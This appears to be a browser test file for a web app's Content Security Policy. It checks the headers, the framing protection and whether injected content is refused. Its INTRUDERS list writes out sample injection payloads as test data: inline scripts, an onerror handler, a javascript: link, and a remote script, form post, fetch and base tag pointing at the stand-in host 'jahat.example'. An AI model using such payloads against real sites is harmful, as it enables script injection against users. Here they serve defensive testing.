import { expect, test, visit } from '../support/browser.ts';

const REFUSED = /Content Security Policy/;

const INTRUDERS: [string, string][] = [
  [
    'an inline script',
    `const script = document.createElement('script');
         script.textContent = 'ran = 1';
         document.body.append(script)`
  ],
  [
    'a script of another host',
    `const script = document.createElement('script');
         script.src = 'https://jahat.example/a.js';
         document.body.append(script)`
  ],
  [
    'a handler in markup',
    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="ran = 1">')`
  ],
  [
    'a javascript: link',
    `const link = document.createElement('a');
         link.href = 'javascript:ran = 1';
         document.body.append(link);
         link.click()`
  ],
  [
    'a frame',
    `const frame = document.createElement('iframe');
         frame.src = '/';
         document.body.append(frame)`
  ],
  [
    'a form to another host',
    `const form = document.createElement('form');
         form.action = 'https://jahat.example/';
         document.body.append(form);
         form.submit()`
  ],
  ['a request to another host', `fetch('https://jahat.example/').catch(() => undefined)`],
  [
    'a base for every link',
    `const base = document.createElement('base');
         base.href = 'https://jahat.example/';
         document.head.append(base)`
  ]
];

test('§7 Headers: the policy of pages names every script', async ({ request }) => {
  for (const path of ['/', '/id/product', '/product/Jahe', '/dashboard/users', '/nothing']) {
    const policy = (await request.get(path)).headers()['content-security-policy'] ?? '';
    expect(policy, path).toMatch(
      /^default-src 'none'; script-src 'self'( 'sha256-[\w+/]+=')+; style-src /
    );
    expect(policy.replace(/style-src [^;]+/, ''), path).not.toContain('unsafe');
  }
});

test('§7 Headers: the API description works under its policy', async ({ page }) => {
  await page.goto('/api/docs');
  await page.getByRole('link', { name: 'ProductCategory', exact: true }).click();
  await page
    .getByRole('button', { name: /^GET ​?\/product-category/ })
    .first()
    .click();
  await page.getByRole('button', { name: 'Try it out' }).click();
  await page.getByRole('button', { name: 'Execute' }).click();
  await expect(page.getByText('"ProductCategory"').first()).toBeVisible();
});

test.describe(() => {
  test.use({ expectedErrors: REFUSED });

  test('§7 Headers: an intrusion in a page has no effect and is reported', async ({ page }) => {
    await visit(page, '/product/Jahe');
    for (const [what, intrusion] of INTRUDERS) {
      const warning = page.waitForEvent(
        'console',
        (message) => message.type() === 'error' && REFUSED.test(message.text())
      );
      await page.evaluate(intrusion);
      await warning;
      expect(await page.evaluate('typeof ran'), what).toBe('undefined');
      expect(await page.evaluate('location.pathname'), what).toBe('/product/Jahe');
    }
  });

  test('§7 Headers: no page is shown in a frame', async ({ page, baseURL }) => {
    for (const path of ['/', '/dashboard', '/api/docs', '/api/product']) {
      await page.goto('about:blank');
      await page.setContent(`<iframe src="${baseURL}${path}"></iframe>`);
      await expect
        .poll(() => page.frames()[1]?.url(), { message: path })
        .toBe('chrome-error://chromewebdata/');
    }
  });
});
